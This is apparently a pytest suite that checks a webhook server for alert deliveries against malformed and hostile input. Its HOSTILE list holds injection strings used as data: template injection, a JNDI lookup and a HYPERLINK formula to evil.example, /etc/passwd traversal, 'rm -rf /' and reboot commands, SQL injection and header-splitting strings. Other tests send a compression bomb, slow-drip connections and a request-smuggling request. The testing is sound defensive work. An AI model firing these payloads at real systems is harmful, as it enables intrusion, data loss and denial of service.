"""Bad input over a real socket: the right answer, the server stays up, nothing is half written."""

from __future__ import annotations

import asyncio
import gzip
import json
import zlib
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
import pytest_asyncio

from tests.support.api_world import Address, World, alert, logged, payload
from trainmedic_server.http.limits import MIB, ConnectionLimits, ServerLimits

# One server for all of it, as one would have in production.
pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def served() -> AsyncIterator[tuple[World, Address]]:
    world = World(limits=ServerLimits(body_seconds=0.5))
    async with world.served() as address:
        yield world, address


@pytest_asyncio.fixture(loop_scope="module")
async def world(served: tuple[World, Address]) -> World:
    world, _ = served
    world.engine.deliveries.clear()
    world.history.records.clear()
    world.history.events.clear()
    return world


@pytest_asyncio.fixture(loop_scope="module")
async def address(world: World, served: tuple[World, Address]) -> AsyncIterator[Address]:
    _, address = served
    yield address
    # Whatever was sent, the server still answers, and the next delivery is taken.
    async with httpx.AsyncClient(base_url=address.url) as client:
        assert (await client.get("/health")).json()["status"] == "healthy"
        before = len(world.engine.deliveries)
        assert (await client.post("/webhook", json=payload())).status_code == 200
        assert len(world.engine.deliveries) == before + 1


async def post(address: Address, content: Any, **headers: str) -> httpx.Response:
    async with httpx.AsyncClient(base_url=address.url, timeout=60) as client:
        return await client.post("/webhook", content=content, headers=headers)


def body(*alerts: dict[str, Any], **changes: Any) -> bytes:
    return json.dumps(payload(*alerts, **changes)).encode()


GOOD = body()
DEEP = 100_000

REFUSED = {
    "empty": (b"", 400, None),
    "cut off": (GOOD[:-20], 400, None),
    "two documents": (GOOD + GOOD, 400, None),
    "trailing comma": (GOOD[:-1] + b",}", 400, None),
    "single quotes": (GOOD.replace(b'"', b"'"), 400, None),
    "NaN": (GOOD[:-1] + b', "x": NaN}', 400, None),
    "a form": (b"version=4&alerts=", 400, None),
    "XML": (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>', 400, None),
    "raw control character": (GOOD.replace(b"GPUHot", b"GPU\x07Hot"), 400, None),
    "raw NUL": (GOOD.replace(b"GPUHot", b"GPU\x00Hot"), 400, None),
    "deep list": (b"[" * DEEP, 400, None),
    "deep list, closed": (b"[" * DEEP + b"]" * DEEP, 400, None),
    "deep object in an unknown member": (
        GOOD[:-1] + b', "x": ' + b'{"a":' * DEEP + b"1" + b"}" * DEEP + b"}",
        400,
        None,
    ),
    "UTF-16": (GOOD.decode().encode("utf-16"), 400, None),
    "UTF-32": (GOOD.decode().encode("utf-32"), 400, None),
    "Latin-1": (GOOD.replace(b"GPUHot", "Überhitzt".encode("latin-1")), 400, None),
    "byte order mark": (b"\xef\xbb\xbf" + GOOD, 400, None),
    "overlong UTF-8": (GOOD.replace(b"GPUHot", b"\xc0\xafetc"), 400, None),
    "surrogate in UTF-8": (GOOD.replace(b"GPUHot", b"\xed\xa0\x80"), 400, None),
    "gzip without saying so": (gzip.compress(GOOD), 400, None),
    "not an object": (b"[]", 422, ""),
    "null": (b"null", 422, ""),
    "no version": (body(version=...), 422, "version"),
    "version 3": (body(version="3"), 422, "version"),
    "Grafana's version": (body(version="1", orgId=1, title="[FIRING:1]"), 422, "version"),
    "version a number": (body(version=4), 422, "version"),
    "no alerts": (body(alerts=...), 422, "alerts"),
    "alerts null": (body(alerts=None), 422, "alerts"),
    "an alert without labels": (body(alert(labels=...)), 422, "alerts.0.labels"),
    "an alert without status": (body(alert(status=...)), 422, "alerts.0.status"),
    "an alert without start": (body(alert(startsAt=...)), 422, "alerts.0.startsAt"),
    "both alerts are bad": (body(alert(labels=5), alert(status="x")), 422, "alerts.0.labels"),
    "label a number": (body(alert(labels={"gpu": 0})), 422, "alerts.0.labels.gpu"),
    "100,000 labels": (body(alert(labels={f"label_{n}": "x" for n in range(100_000)})), 422, "alerts.0.labels"),
    "a 1 MB label value": (body(alert(labels={"big": "x" * MIB})), 422, "alerts.0.labels.big"),
    "a 1 MB label name": (body(alert(labels={"x" * MIB: "big"})), 422, "alerts.0.labels." + "x" * 64),
    "escaped NUL": (body(alert(labels={"a": "x\0"})), 422, "alerts.0.labels.a"),
    "half a surrogate pair": (GOOD.replace(b"GPUHot", b"\\ud800", 1), 422, "alerts.0.labels.alertname"),
    "the other half": (GOOD.replace(b"GPUHot", b"\\udc00x", 1), 422, "alerts.0.labels.alertname"),
    "a million problems": (body(alerts=[{}] * 1_000_000), 422, "alerts.0.status"),
}


@pytest.mark.parametrize("name", REFUSED)
async def test_an_invalid_delivery_is_rejected_with_the_right_status(world: World, address: Address, name: str) -> None:
    """400 if it is not JSON in UTF-8, 422 with the field if it is not Alertmanager's."""
    content, status, field = REFUSED[name]
    answer = await post(address, content)
    assert answer.status_code == status, answer.text[:300]
    assert answer.headers["content-type"] == "application/problem+json"
    problem = answer.json()
    assert problem["status"] == status
    assert problem.get("field") == field
    assert len(answer.content) < 10_000
    assert world.engine.deliveries == []


HOSTILE = [
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "/dev/sda; rm -rf / #",
    "$(reboot) `reboot` && reboot | reboot\nreboot",
    "'; DROP TABLE runs; --",
    '" OR 1=1 --',
    'x\n{"event": "run_succeeded", "level": "info", "forged": true}',
    "x\r\nSet-Cookie: forged=1\r\n\r\n<script>alert(1)</script>",
    "\x1b[2J\x1b[31mforged\x07\x7f",
    "data: x\n\nevent: forged\nid: 999\n\n",
    '=HYPERLINK("http://evil.example")',
    "\u202e\u2066gnp.exe\u2069\ufeff\u2028\u2029",
    "%00%n%s%x",
    "𝕌𝕟𝕚𝕔𝕠𝕕𝕖 日本語 🔥",
]


@pytest.mark.parametrize("text", HOSTILE)
async def test_hostile_text_is_data_everywhere(world: World, address: Address, text: str) -> None:
    """It is accepted, stored and shown exactly as sent, and forges no line of a log, stream or file."""
    labels = {"alertname": text, "node": "node-1", "path": text}
    with logged() as lines:
        answer = await post(address, body(alert(labels=labels, annotations={text: text})))
        refused = await post(address, body(alert(labels={text: 1})))
        assert not any("forged" in line for line in lines())
    assert answer.status_code == 200, answer.text
    assert refused.json()["field"] == f"alerts.0.labels.{text}"
    run_id = answer.json()["runs"][0]["run_id"]
    async with httpx.AsyncClient(base_url=address.url) as client:
        shown = (await client.get(f"/history/{run_id}")).json()
        assert (shown["alert_labels"], shown["alerts"][0]["annotations"]) == (labels, {text: text})
        found = (await client.get("/history", params={"alertname": text})).json()["items"]
        assert [item["run_id"] for item in found] == [run_id]
        ndjson = (await client.get("/history", headers={"accept": "application/x-ndjson"})).content
        assert [json.loads(line)["alert_labels"] for line in ndjson.split(b"\n") if line] == [labels]
        table = (await client.get("/history", headers={"accept": "text/csv"})).text
        assert not any(line.startswith(("=", "+", "@")) for line in table.split(","))
        async with client.stream("GET", "/events", headers={"last-event-id": "0"}) as stream:
            async for line in stream.aiter_lines():
                if line.startswith("data:"):
                    assert json.loads(line[5:])["data"]["labels"] == labels
                    break
                assert line.split(":")[0] in ("", "retry", "id", "event")
                assert "forged" not in line
    assert world.engine.deliveries[0].alerts[0].labels == labels


BOMB = zlib.compress(b" " * 100 * MIB)


@pytest.mark.parametrize("encoding", ["gzip", "deflate", "br", "zstd", "gzip, gzip", "identity, gzip"])
async def test_compressed_bodies_are_never_decompressed(world: World, address: Address, encoding: str) -> None:
    """A bomb stays compressed: the answer is 415 with the accepted encoding."""
    answer = await post(address, BOMB, **{"content-encoding": encoding})
    assert answer.status_code == 415
    assert answer.headers["accept-encoding"] == "identity"
    assert world.engine.deliveries == []


async def test_an_announced_size_over_the_limit_is_rejected_unread(address: Address) -> None:
    """413 is sent before a byte of the body is read, without a preceding 100 Continue."""
    head = b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: 999999999999999999999\r\n"
    answer = await address.raw(head + b"Expect: 100-continue\r\n\r\n")
    assert answer.startswith((b"HTTP/1.1 413", b"HTTP/1.1 400"))
    assert b"100 Continue" not in answer
    answer = await address.raw(head.replace(b"9" * 21, b"9" * 12) + b"Expect: 100-continue\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 413")
    assert b"100 Continue" not in answer


async def test_a_body_over_the_limit_is_rejected_during_its_transfer(address: Address) -> None:
    """Without a length the bytes are counted; the client receives the answer."""

    async def endless() -> AsyncIterator[bytes]:
        for _ in range(12):
            yield b" " * MIB

    answer = await post(address, endless())
    assert answer.status_code == 413
    assert answer.headers["connection"] == "close"


async def test_a_slow_body_times_out(world: World, address: Address) -> None:
    """The answer is 408, however steadily the bytes arrive."""
    reader, writer = await asyncio.open_connection(address.host, address.port)

    async def drip() -> None:
        writer.write(b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(GOOD))
        for byte in GOOD:
            writer.write(bytes([byte]))
            await asyncio.sleep(0.05)

    dripping = asyncio.create_task(drip())
    answer = await asyncio.wait_for(reader.readuntil(b"}"), 60)
    dripping.cancel()
    writer.close()
    assert answer.startswith(b"HTTP/1.1 408")
    assert world.engine.deliveries == []


async def test_a_truncated_body_is_not_a_delivery(world: World, address: Address) -> None:
    """The connection ends before the announced length has arrived."""
    _, writer = await asyncio.open_connection(address.host, address.port)
    writer.write(b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % (len(GOOD) + 1) + GOOD)
    await writer.drain()
    writer.close()
    await writer.wait_closed()
    await asyncio.sleep(0.1)
    assert world.engine.deliveries == []


async def test_incomplete_headers_end_the_connection() -> None:
    """A silent, slow or stopped connection does not take up resources for long."""

    async def drip(address: Address, start: bytes) -> bytes:
        reader, writer = await asyncio.open_connection(address.host, address.port)
        writer.write(start)
        try:
            for _ in range(100):
                writer.write(b"x" if start else b"")
                await writer.drain()
                if reader.at_eof():
                    break
                await asyncio.sleep(0.1)
            return await reader.read()
        except ConnectionError:
            return b""
        finally:
            writer.close()

    starts = [b"", b"POST /webhook HTTP/1.1\r\nX-Slow: ", b"GET /health HTTP/1.1\r\nHost: x\r\n\r\nGET /hea"]
    async with World().served(ConnectionLimits(head_seconds=0.5)) as address:
        answers = await asyncio.wait_for(asyncio.gather(*[drip(address, start) for start in starts]), 60)
    assert answers[:2] == [b"", b""]


@pytest.mark.parametrize(
    "request_bytes",
    [
        b"GET / HTTP/1.1\r\nX-Big: " + b"x" * 200_000,
        b"GET /" + b"x" * 200_000,
        b"GET / HTTP/1.1\r\n" + b"X-Many: 1\r\n" * 20_000,
        b"\x16\x03\x01\x02\x00\x01\x00",
        b"GET / HTTP/9.9\r\n\r\n",
        b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /webhook HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    ],
    ids=["one big header", "big path", "many headers", "TLS", "odd version", "smuggling", "negative length"],
)
async def test_a_non_http_request_is_rejected_at_once(address: Address, request_bytes: bytes) -> None:
    """The answer is 400, 414 or 431, or the connection ends, in bounded memory."""
    try:
        answer = await address.raw(request_bytes, 5)
    except ConnectionError:
        answer = b""
    assert answer == b"" or answer.startswith((b"HTTP/1.1 400", b"HTTP/1.1 414", b"HTTP/1.1 431"))
